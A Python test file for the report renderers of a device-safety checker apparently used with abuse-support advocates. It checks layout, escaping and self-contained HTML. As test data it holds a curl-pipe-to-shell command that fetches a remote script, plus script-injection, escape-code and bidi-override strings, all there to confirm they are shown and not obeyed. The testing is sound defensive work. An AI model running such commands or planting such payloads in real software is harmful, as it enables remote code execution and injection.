"""The report in every format: one content, in one order, within the limits of each format."""

from __future__ import annotations

from dataclasses import replace
from html.parser import HTMLParser
from typing import ClassVar

import pytest
from report_sample import HELP, combined_report

from safecheck.checkup.checklist.model import ChecklistSet
from safecheck.core.i18n import Translator, catalog
from safecheck.core.model import Confidence, Coverage, CoverageStatus, Evidence, Finding, Severity
from safecheck.report.jsonio import report_digest
from safecheck.report.model import Metadata, Report
from safecheck.report.render.common import to_ascii, visible
from safecheck.report.render.html import render_html
from safecheck.report.render.markdown import code, escape, render_markdown
from safecheck.report.render.text import WIDTH, render_text


@pytest.fixture
def combined(mini: ChecklistSet, utc: None) -> Report:
    return combined_report(mini, "en")


@pytest.fixture
def combined_fr(mini: ChecklistSet, utc: None) -> Report:
    return combined_report(mini, "fr")


def scan_only(report: Report, findings: tuple[Finding, ...] | None = None) -> Report:
    """What `safecheck scan` makes: no answers, no country, no checklist versions."""
    metadata = replace(report.metadata, country="", advocate_mode=False, data_versions={})
    scan_findings = tuple(f for f in report.findings if f.category != "checklist")
    return Report(
        metadata=metadata,
        findings=scan_findings if findings is None else findings,
        answers=(),
        risks=(),
        coverage=tuple(c for c in report.coverage if "." in c.id),
    )


def checkup_only(report: Report) -> Report:
    return Report(
        metadata=replace(report.metadata, host={}),
        findings=tuple(f for f in report.findings if f.category == "checklist"),
        answers=report.answers,
        risks=report.risks,
        coverage=tuple(c for c in report.coverage if "." not in c.id),
    )


# --- text ------------------------------------------------------------------------------------


@pytest.mark.parametrize("lang", ["en", "fr"])
@pytest.mark.parametrize("ascii_only", [False, True])
def test_text_fits_80_columns_and_ascii_is_ascii(
    lang: str, ascii_only: bool, combined: Report, combined_fr: Report
) -> None:
    report = combined if lang == "en" else combined_fr
    t = Translator(lang)
    for variant in (report, scan_only(report), checkup_only(report), scan_only(report, ())):
        text = render_text(variant, t, HELP[lang], ascii_only=ascii_only)
        too_long = [line for line in text.splitlines() if len(line) > WIDTH]
        assert too_long == []
        if ascii_only:
            assert text.isascii()
        assert "\x1b" not in text


def test_text_follows_the_content_order(combined: Report) -> None:
    t = Translator("en")
    text = render_text(combined, t, HELP["en"])
    marks = [
        "Date: 2026-11-27T10:30:00+00:00 (UTC); local time 2026-11-27 10:30 UTC",
        "safecheck version 9.9.9",
        "Checklists and data used: accounts t2, catalog 2026.11, phone t1, rules 2026.11,",
        "Inspected: this computer (linux)",
        "Operating system: Debian GNU/Linux 12 (bookworm)",
        "Version: 12",
        "Model: LENOVO ThinkPad X1 Carbon Gen 9 (20XWCTO1WW)",
        "Language: English. Help contacts for: FR",
        "SUMMARY",
        "  Act on now: 4",
        "  Review with an advocate: 2",
        "  Done, nothing to act on: 1",
        "  Questions skipped: 1",  # counted apart from the parts that could not be read
        "  Could not check: 2",  # one collector needs admin, one read in part
        "Nothing found does not",
        "ACT ON NOW",
        "YOUR ANSWERS",
        "know? (yes)\n    Advocate's note: seen 3 Nov",
        "REVIEW WITH AN ADVOCATE",
        "RISKS FROM YOUR SITUATION",
        "[high, possible] Passwords may be known.",
        "WHAT WAS CHECKED",
        "Who else can log in or act as administrator (linux.accounts): needs",
        "/etc/shadow: permission",
        "WHERE TO GET HELP",
        "3919  Violences Femmes Info",
        "SHA-256 of this report's content:",
        report_digest(combined),
    ]
    positions = [text.index(mark) for mark in marks]
    assert positions == sorted(positions)
    assert text.rstrip().splitlines()[-3].strip() == report_digest(combined)


def test_each_finding_has_levels_evidence_why_and_the_note_next_to_the_steps(
    combined: Report,
) -> None:
    t = Translator("en")
    text = render_text(combined, t)
    block = text[text.index("2. A scheduled task") : text.index(" 3. ")]
    lines = [line.strip() for line in block.splitlines()]
    # advocate mode: the levels, id and collector under the heading; why before the evidence
    assert lines[:5] == [
        "2. A scheduled task downloads and runs a program [high]",
        "Severity: high. Confidence: high (very likely what it says).",
        "Finding SC-LNX-DOWNLOAD-EXEC, from linux.cron.",
        "Why it matters: It can install anything at any time, without you seeing it.",
        "What was seen:",
    ]
    assert "- Seen at: /etc/cron.d/update:1" in lines
    assert "User: root" in lines
    assert "File date (UTC): 2026-11-20T21:04:11+00:00" in lines
    safety = lines.index("Before you act: Removing it can alert the person who set it up.")
    assert lines[safety : safety + 3] == [
        "Before you act: Removing it can alert the person who set it up.",
        "What to do: Take a photo of the screen before changing anything.",
        "What to do: Talk to an advocate before removing it.",
    ]
    remote = text[text.index("4. A remote-access") :]
    assert "Confidence: low (it may well be harmless)" in remote


def test_hostile_data_is_shown_not_obeyed(combined: Report) -> None:
    text = render_text(combined, Translator("en"))
    assert "\\x1b[31m" in text and "\x1b" not in text
    hostile = Finding(
        id="X",
        title="Bidi \u202etxt.exe and a bell \x07",
        severity=Severity.LOW,
        confidence=Confidence.LOW,
        source="x",
        category="x",
        explanation="line one\r\nline two\x85",
    )
    report = replace(combined, findings=(hostile,))
    for rendered in (
        render_text(report, Translator("en")),
        render_markdown(report, Translator("en")),
        render_html(report, Translator("en")),
    ):
        assert "\u202e" not in rendered and "\x07" not in rendered and "\x85" not in rendered
        assert "\\u202e" in rendered and "\\x07" in rendered


def test_scan_only_and_checkup_only_reports(combined: Report) -> None:
    t = Translator("en")
    scan = render_text(scan_only(combined), t)
    assert scan.startswith("safecheck — computer inspection\n")
    assert "YOUR ANSWERS" not in scan and "RISKS" not in scan
    assert "Review with an advocate" not in scan
    assert "some places could not be checked" in " ".join(scan.split())  # the scan's caveat
    empty = render_text(scan_only(combined, ()), t)
    assert "No finding. This does not mean nothing is there" in empty
    checkup = render_text(checkup_only(combined), t)
    assert checkup.startswith("safecheck — checkup report\n")
    assert "This computer was not inspected" in checkup
    # a checkup alone counts its skipped question, and no computer parts
    assert "Questions skipped: 1" in checkup and "Could not check" not in checkup
    combined_text = render_text(combined, t)
    assert combined_text.startswith("safecheck — checkup and computer inspection report\n")
    # questions are "answered", the computer's parts "checked", in one list
    assert "  - phone: partly answered." in combined_text
    assert "  - Programs running now (common.processes): partly checked." in combined_text


def test_no_finding_in_a_combined_report(combined: Report) -> None:
    text = render_text(replace(combined, findings=()), Translator("en"))
    assert "Nothing to act on was found. This does not mean nothing is there." in text


def test_never_says_safe(combined: Report) -> None:
    t = Translator("en")
    for report in (combined, scan_only(combined, ()), checkup_only(combined)):
        for text in (render_text(report, t), render_markdown(report, t), render_html(report, t)):
            assert "safe " not in text.lower().replace("safecheck", "")
            assert "safe." not in text.lower().replace("safecheck", "")


def test_every_confidence_has_words_in_every_language() -> None:
    for lang in ("en", "fr"):
        for confidence in Confidence:
            assert catalog(lang)[f"confidence.{confidence.value}"]


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("« masque 19 »", '"masque 19"'),
        ("l’écran — déjà…", "l'ecran - deja..."),
        ("œuvre, Ærø, straße", "oeuvre, AEro, strasse"),
        ("24\u00a0h/24\u202f!", "24 h/24 !"),
        ("intervenant·e", "intervenant.e"),
        ("“quoted” ‘single’", "\"quoted\" 'single'"),
        ("東京 🙂", "?? ?"),
    ],
)
def test_to_ascii(text: str, expected: str) -> None:
    assert to_ascii(text) == expected


def test_visible() -> None:
    assert visible("a\tb\r\nc\u2028d") == "a b\nc\nd"
    assert visible("\x1b[2J\u200b\u202e") == "\\x1b[2J\\u200b\\u202e"
    assert visible("Français 24\u00a0h") == "Français 24\u00a0h"


def test_ascii_help_lines_made_longer_are_wrapped_again(combined: Report) -> None:
    long_line = "    " + "…" * 30 + " " + "é" * 30
    text = render_text(combined, Translator("fr"), long_line, ascii_only=True)
    assert all(len(line) <= WIDTH for line in text.splitlines())
    assert "." * 80 not in text and "." * 76 in text.replace("\n    ", "")


# --- Markdown ------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("# not a heading", "\\# not a heading"),
        ("1. not a list", "1\\. not a list"),
        ("- not a list", "\\- not a list"),
        ("[link](javascript:alert(1))", "\\[link\\](javascript:alert(1))"),
        ("![img](http://x/y.png)", "\\!\\[img\\](http://x/y.png)"),
        (
            "<script>*a* _b_ `c` &amp; | ~d~",
            "\\<script\\>\\*a\\* \\_b\\_ \\`c\\` \\&amp; \\| \\~d\\~",
        ),
        ("a\\b", "a\\\\b"),
        ("line\n===", "line\n\\==="),
    ],
)
def test_markdown_escape(text: str, expected: str) -> None:
    assert escape(text) == expected


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("/etc/cron.d/x", "`/etc/cron.d/x`"),
        ("a `b` c", "``a `b` c``"),
        ("`start", "`` `start ``"),
        ("two\nlines", "`two lines`"),
    ],
)
def test_markdown_code_span(text: str, expected: str) -> None:
    assert code(text) == expected


def test_markdown_report(combined: Report) -> None:
    t = Translator("en")
    text = render_markdown(combined, t, HELP["en"])
    assert text.startswith("# safecheck — checkup and computer inspection report\n")
    for heading in (
        "## Summary",
        "## Act on now",
        "## Your answers",
        "### Review with an advocate",
        "## Risks from your situation",
        "## What was checked",
        "## Where to get help",
    ):
        assert f"\n{heading}\n" in text
    assert "### 2. A scheduled task downloads and runs a program\n" in text
    assert "- Seen at: `/etc/cron.d/update:1`" in text
    assert (
        "  - Command: ``curl -s https://203.0.113.5/x.sh | sh  # \\x1b[31m`*_[x](y)`<i>``" in text
    )
    assert "Advocate's note: seen 3 Nov \\<b\\>\\*x\\*\\</b\\>" in text
    assert (
        "**Before you act:** Removing it can alert the person who set it up.\n\n**What to do:**"
        in text
    )
    assert f"`{report_digest(combined)}`" in text
    assert "```text\nHelp and emergency contacts — France\n" in text


# --- HTML ----------------------------------------------------------------------------------


class _Checker(HTMLParser):
    VOID: ClassVar[set[str]] = {"meta", "br", "link", "img", "hr", "input"}

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.stack: list[str] = []
        self.errors: list[str] = []
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.text: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))
        if tag not in self.VOID:
            self.stack.append(tag)

    def handle_endtag(self, tag: str) -> None:
        if not self.stack or self.stack[-1] != tag:
            self.errors.append(f"</{tag}> closes {self.stack[-1:] or 'nothing'}")
        else:
            self.stack.pop()

    def handle_data(self, data: str) -> None:
        self.text.append(data)


@pytest.mark.parametrize("lang", ["en", "fr"])
def test_html_is_self_contained_and_well_formed(
    lang: str, combined: Report, combined_fr: Report
) -> None:

    report = combined if lang == "en" else combined_fr
    page = render_html(report, Translator(lang), HELP[lang])
    checker = _Checker()
    checker.feed(page)
    checker.close()
    assert checker.errors == [] and checker.stack == []
    tags = checker.tags
    assert tags[0] == ("html", {"lang": lang})
    metas = [attrs for tag, attrs in tags if tag == "meta"]
    assert {"charset": "utf-8"} in metas
    assert {
        "http-equiv": "Content-Security-Policy",
        "content": "default-src 'none'; style-src 'unsafe-inline'",
    } in metas
    assert {"name": "referrer", "content": "no-referrer"} in metas
    assert {"name": "viewport", "content": "width=device-width, initial-scale=1"} in metas
    names = {tag for tag, _ in tags}
    assert names.isdisjoint({"script", "img", "link", "iframe", "object", "embed", "form", "base"})
    for tag, attrs in tags:
        assert not (set(attrs) & {"src", "srcset", "style", "onload", "onerror", "background"})
        if tag == "a":
            assert (attrs.get("href") or "").startswith("https://")
            assert attrs.get("rel") == "noreferrer noopener"
    lowered = page.lower()
    assert "url(" not in lowered and "@import" not in lowered and "@font-face" not in lowered
    assert "@media print" in page and "@page { size: auto; margin: 15mm; }" in page
    assert "break-inside: avoid" in page
    text = " ".join(checker.text)
    for finding in report.findings:
        assert finding.title in text and finding.safety_note in text
    assert report_digest(report) in text
    assert "<b>*x*</b>" in text and "<b>" not in page.replace("&lt;b&gt;", "")


def test_html_of_an_empty_scan(combined: Report) -> None:
    report = Report(
        metadata=Metadata(
            tool="safecheck",
            version="1",
            generated_at="2026-11-27T10:30:00+00:00",
            language="en",
            country="",
            advocate_mode=False,
            host={"platform": "darwin", "root": "/Volumes/disk", "live": False},
        ),
        findings=(),
        answers=(),
        risks=(),
        coverage=(Coverage("macos.launchd", CoverageStatus.FAILED, "Could not be checked: x."),),
    )
    page = render_html(report, Translator("en"))
    assert "No finding. This does not mean nothing is there" in page
    assert "Could not check: 1" in page
    evidence = Evidence(path="/a", command="x" * 400)
    finding = Finding("I", "T", Severity.INFO, Confidence.LOW, "s", "c", "e", evidence=(evidence,))
    page = render_html(replace(report, findings=(finding,)), Translator("en"))
    assert "x" * 300 + " [...]" in page and "x" * 301 not in page


def test_markdown_renders_as_written_in_commonmark(combined: Report) -> None:
    """Through a CommonMark parser (markdown-it, which rich depends on), with GFM tables and
    strikethrough on: the data shows as text, nothing becomes a link, an image or markup."""
    from markdown_it import MarkdownIt  # noqa: PLC0415 - only this test reads Markdown

    hostile = Finding(
        id="SC-X",
        title="# Not *a* heading [x](https://evil.example/) ![i](http://evil.example/i.png)",
        severity=Severity.HIGH,
        confidence=Confidence.HIGH,
        source="x",
        category="x",
        explanation="1. not a list\n- nor this\n---\n<script>alert(1)</script> | a | b |",
        steps=("`code` ~~gone~~ **bold** _it_ \\*",),
        safety_note="&amp; &lt;",
        evidence=(Evidence(path="/tmp/`x`", command="a  b `` c"),),
    )
    report = replace(combined, findings=(*combined.findings, hostile))
    page = (
        MarkdownIt("commonmark")
        .enable(["table", "strikethrough"])
        .render(render_markdown(report, Translator("en"), HELP["en"]))
    )
    checker = _Checker()
    checker.feed(page)
    names = [tag for tag, _ in checker.tags]
    assert names.count("h1") == 1 and "a" not in names and "img" not in names
    assert "script" not in names and "table" not in names and "s" not in names
    assert names.count("h3") == len(report.findings) + 4  # the findings and the answer groups
    text = "".join(checker.text)
    for finding in report.findings:
        assert finding.title in text
        assert " ".join(finding.safety_note.split()) in text
    assert hostile.explanation.replace("\n", " ") in " ".join(text.split("\n"))
    assert "`code` ~~gone~~ **bold** _it_ \\*" in text
    assert "/tmp/`x`" in text and "a  b `` c" in text
    assert "<b>*x*</b>" in text


def test_information_findings_are_never_under_act_now(mini: ChecklistSet) -> None:
    report = combined_report(mini)
    first = report.findings[0]
    info = replace(
        first, id="SC-TEST-INFO", title="An entry changed recently", severity=Severity.INFO
    )
    report = replace(report, findings=(*report.findings, info))
    assert info not in report.act_now and report.information == [info]
    t = Translator("en")
    text = render_text(report, t)
    act_part, _, rest = text.partition("FOR INFORMATION")
    assert "An entry changed recently" not in act_part and "An entry changed recently" in rest
    assert f"Act on now: {len(report.findings) - 1}" in text.replace("\u00a0", " ")
    markdown = render_markdown(report, t)
    assert markdown.index("## For information") < markdown.index("An entry changed recently")
    assert "<h2>For information</h2>" in render_html(report, t)
